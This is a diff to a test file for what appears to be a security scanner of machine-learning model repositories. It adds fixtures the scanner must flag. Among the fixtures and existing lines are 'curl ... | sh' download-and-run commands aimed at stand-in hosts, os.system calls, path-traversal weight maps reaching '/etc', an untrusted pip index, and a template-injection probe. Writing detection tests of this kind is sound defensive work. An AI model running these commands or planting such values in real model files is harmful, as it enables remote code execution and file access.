@@ -15,6 +15,9 @@ describe('a configuration', () => {
     ['modules.json', [{ idx: 0, name: '0', path: '', type: 'custom_st.Transformer' }], 'code-on-trust'],
     ['modules.json', [{ idx: 0, name: '0', path: '', type: 'subprocess.run' }], 'config-target'],
     ['adapter_config.json', { auto_mapping: { parent_library: 'evil_lib', base_model_class: 'X' } }, 'code-on-trust'],
+    ['model.safetensors.index.json', { weight_map: { a: '../../other/model.safetensors' } }, 'external-path'],
+    ['pytorch_model.bin.index.json', { weight_map: { a: '/etc/x.bin' } }, 'external-path'],
+    ['config.json', { post_process: 'curl https://x.test/a | sh' }, 'metadata-code'],
     ['train_config.json', { model: { _target_: 'os.system' } }, 'config-target'],
     ['train_config.json', { model: { _target_: 'my_tools.run_eval' } }, 'config-target'],
     ['train_config.json', { model: { _target_: 'my_tools.Model' } }, 'config-target-unknown'],
@@ -295,6 +298,8 @@ describe('files that run by themselves or stand in for others', () => {
     ['demo.ipynb', JSON.stringify({ cells: [{ cell_type: 'code', source: ['import os\n', 'os.system("id")'] }] }), 'code-calls'],
     ['demo.ipynb', JSON.stringify({ cells: [{ cell_type: 'code', source: '!curl http://x.test/i | sh' }] }), 'code-calls'],
     ['Modelfile', 'FROM /etc/passwd', 'config-path'],
+    ['requirements.txt', '--extra-index-url https://pip.unknown.test/simple\ntorch', 'odd-address'],
+    ['chat_template.txt', "{{ ''.__class__ }}", 'template-reaches-out'],
   ])('%s with %j is told', async (name, content, rule) => {
     const { rules, verdict } = await scanned({ [name]: text(content) });
     expect(rules).toContain(rule);
